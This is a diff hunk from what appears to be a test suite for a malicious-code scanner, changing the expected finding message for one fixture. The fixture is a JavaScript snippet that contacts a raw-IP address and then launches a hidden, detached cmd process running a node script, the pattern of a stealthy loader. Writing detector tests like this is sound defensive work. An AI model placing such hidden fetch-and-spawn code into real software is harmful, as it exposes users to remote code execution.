@@ -30,7 +30,7 @@ axios.get('http://95.164.17.24:1224/client/99').then(() => {
   spawn('cmd', ['/c', 'start', '/b', 'node', 'x.js'], { detached: true, windowsHide: true, stdio: 'ignore' }).unref();
 });
 `,
-      findings: [{ line: 4, severity: 'high', confidence: 'medium', message: /cmd.*windowsHide, detached\+unref.*network, raw-IP URL/ }],
+      findings: [{ line: 4, severity: 'high', confidence: 'medium', message: /cmd.*windowsHide, detached\+unref.*raw-IP URL/ }],
     },
   ],
 });
